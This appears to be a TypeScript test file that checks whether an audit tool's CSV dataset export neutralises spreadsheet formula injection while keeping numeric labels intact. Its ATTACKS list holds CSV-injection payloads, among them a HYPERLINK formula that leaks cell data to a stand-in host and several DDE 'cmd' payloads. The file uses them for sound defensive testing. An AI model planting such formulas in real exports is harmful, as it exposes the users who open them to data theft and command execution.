/**
 * The dataset an audit makes from a workload's logged calls is a CSV users download and open in
 * spreadsheets: a logged output must not become a formula there (CSV injection), and numeric labels
 * must stay numbers.
 */
// Zod's OpenAPI extension before any schema is built (the app's route schemas call .openapi()).
import "@hono/zod-openapi";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { csvCell } from "@/lib/server/modules/audits/csv-cell";
import { call, serveForUploads, signUpWithKey } from "../helpers";
import { startDatasetTestApp } from "./datasets-helpers";

const { app } = await startDatasetTestApp("layerline-audits-csv-blobs");
let stopServer: () => void = () => {};
let key = "";
beforeAll(async () => {
  stopServer = await serveForUploads(app);
  key = (await signUpWithKey(app)).key;
});
afterAll(() => stopServer());

const ATTACKS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
];
const NUMBERS = ["-1", "+2", "3.5", "-4e2"];

/** RFC 4180 fields of one CSV line (quoted fields may hold commas and doubled quotes). */
function fields(line: string): string[] {
  const out: string[] = [];
  let i = 0;
  while (i <= line.length) {
    if (line[i] === '"') {
      let value = "";
      i += 1;
      for (;;) {
        const q = line.indexOf('"', i);
        value += line.slice(i, q);
        if (line[q + 1] === '"') {
          value += '"';
          i = q + 2;
        } else {
          i = q + 2;
          break;
        }
      }
      out.push(`"${value}`); // marked as quoted
    } else {
      const comma = line.indexOf(",", i);
      const end = comma < 0 ? line.length : comma;
      out.push(line.slice(i, end));
      i = end + 1;
    }
  }
  return out;
}

describe("the workload dataset CSV (formula injection)", () => {
  it("neutralises cells a spreadsheet would run, keeps numbers numbers", async () => {
    const outputs = [...ATTACKS, ...NUMBERS, "positive"];
    const calls = Array.from({ length: 36 }, (_, i) => ({
      input: `ticket ${i}: please help with order ${i * 7}`,
      output: outputs[i % outputs.length],
    }));
    const published = await call(app, "POST", "/api/v1/audits", {
      key,
      body: {
        name: "Injection",
        workloads: [{ name: "labels", task: "classification", model: "hosted-model", calls }],
      },
    });
    expect(published.status, published.text).toBe(201);
    const auditId = published.json.id;
    const workloadId = published.json.workloads[0].id;
    const ds = await call(app, "POST", `/api/v1/audits/${auditId}/workloads/${workloadId}/dataset`, {
      key,
      body: {},
    });
    expect(ds.status, ds.text).toBe(201);
    const download = await call(app, "GET", `/api/v1/datasets/${ds.json.dataset_id}/download`, { key });
    expect(download.status).toBe(200);
    const [header, ...rows] = download.text.trim().split("\n");
    expect(header.split(",").at(-1)).toBe("label");
    expect(rows.length).toBeGreaterThan(0);
    const labels = rows.map((r) => fields(r).at(-1) as string);
    for (const label of labels) {
      // A spreadsheet reads the cell's text: never starting with a formula character unless a number.
      const text = label.startsWith('"') ? label.slice(1) : label;
      if (/^[=+\-@\t\r]/.test(text)) expect(NUMBERS).toContain(text);
    }
    // Every payload is there, neutralised; every number is there, as a number.
    const seen = new Set(labels);
    for (const attack of ATTACKS) expect(seen).toContain(`"'${attack}`);
    for (const n of NUMBERS) expect(seen).toContain(n);
  });
});

describe("csvCell", () => {
  it("prefixes and quotes a cell starting with = + - @ tab or CR, quotes separators, keeps numbers", () => {
    expect(csvCell("=1+1")).toBe(`"'=1+1"`);
    expect(csvCell("+1+1")).toBe(`"'+1+1"`);
    expect(csvCell("-1+1")).toBe(`"'-1+1"`);
    expect(csvCell("@A1")).toBe(`"'@A1"`);
    expect(csvCell("\t=1")).toBe(`"'\t=1"`);
    expect(csvCell("\r=1")).toBe(`"'\r=1"`);
    expect(csvCell('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
    for (const n of ["-1", "+2", "3.5", "-4e2", ".5", "0"]) expect(csvCell(n)).toBe(n);
    expect(csvCell("positive")).toBe("positive");
    expect(csvCell("a,b")).toBe(`"a,b"`);
    expect(csvCell('say "hi"')).toBe(`"say ""hi"""`);
  });
});
